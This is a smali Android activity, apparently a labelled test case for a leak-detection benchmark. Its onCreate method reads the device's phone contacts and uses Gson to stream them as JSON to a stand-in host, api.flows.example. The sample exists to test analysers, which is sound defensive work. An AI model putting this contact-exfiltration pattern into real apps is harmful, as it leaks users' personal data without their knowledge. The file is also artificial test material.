.class public Lorg/apkaudit/flows/gson_stream/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

# Flow case "gson_stream" (1 leak, network): a contact list serialised by Gson straight into the connection's stream.
#
#   Cursor c = getContentResolver().query(Phone.CONTENT_URI, null, null, null, null);
#   List<Contact> contacts = new ArrayList<>();
#   while (c.moveToNext()) { Contact k = new Contact(); k.number = c.getString(c.getColumnIndex("data1"));
#                            k.label = "mobile"; contacts.add(k); }
#   c.close();
#   HttpURLConnection h = (HttpURLConnection) new URL("https://api.flows.example/v1/gson_stream").openConnection();
#   h.setDoOutput(true);
#   Writer w = new OutputStreamWriter(h.getOutputStream(), "UTF-8");
#   new Gson().toJson(contacts, w);                                  // <- the leak
#   w.close();
#
# smali/com/google/gson/: a STAND-IN stub (real class name and signatures, no serialisation).


# direct methods
.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method


# virtual methods
.method protected onCreate(Landroid/os/Bundle;)V
    .registers 9

    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    :try_start_0
    invoke-virtual {p0}, Lorg/apkaudit/flows/gson_stream/MainActivity;->getContentResolver()Landroid/content/ContentResolver;

    move-result-object v0

    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;

    const/4 v2, 0x0

    const/4 v3, 0x0

    const/4 v4, 0x0

    const/4 v5, 0x0

    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;

    move-result-object v0

    if-eqz v0, :cond_done

    new-instance v1, Ljava/util/ArrayList;

    invoke-direct {v1}, Ljava/util/ArrayList;-><init>()V

    :goto_loop
    invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z

    move-result v2

    if-eqz v2, :cond_end

    new-instance v2, Lorg/apkaudit/flows/gson_stream/Contact;

    invoke-direct {v2}, Lorg/apkaudit/flows/gson_stream/Contact;-><init>()V

    const-string v3, "data1"

    invoke-interface {v0, v3}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I

    move-result v3

    invoke-interface {v0, v3}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;

    move-result-object v3

    iput-object v3, v2, Lorg/apkaudit/flows/gson_stream/Contact;->number:Ljava/lang/String;

    const-string v3, "mobile"

    iput-object v3, v2, Lorg/apkaudit/flows/gson_stream/Contact;->label:Ljava/lang/String;

    invoke-interface {v1, v2}, Ljava/util/List;->add(Ljava/lang/Object;)Z

    goto :goto_loop

    :cond_end
    invoke-interface {v0}, Landroid/database/Cursor;->close()V

    new-instance v2, Ljava/net/URL;

    const-string v3, "https://api.flows.example/v1/gson_stream"

    invoke-direct {v2, v3}, Ljava/net/URL;-><init>(Ljava/lang/String;)V

    invoke-virtual {v2}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;

    move-result-object v2

    check-cast v2, Ljava/net/HttpURLConnection;

    const/4 v3, 0x1

    invoke-virtual {v2, v3}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V

    new-instance v3, Ljava/io/OutputStreamWriter;

    invoke-virtual {v2}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;

    move-result-object v4

    const-string v5, "UTF-8"

    invoke-direct {v3, v4, v5}, Ljava/io/OutputStreamWriter;-><init>(Ljava/io/OutputStream;Ljava/lang/String;)V

    new-instance v2, Lcom/google/gson/Gson;

    invoke-direct {v2}, Lcom/google/gson/Gson;-><init>()V

    # sink: Gson writes the contacts' JSON into the connection's stream
    invoke-virtual {v2, v1, v3}, Lcom/google/gson/Gson;->toJson(Ljava/lang/Object;Ljava/lang/Appendable;)V

    invoke-virtual {v3}, Ljava/io/Writer;->close()V
    :try_end_0
    .catch Ljava/io/IOException; {:try_start_0 .. :try_end_0} :catch_0

    :cond_done
    :goto_0
    return-void

    :catch_0
    move-exception v0

    goto :goto_0
.end method
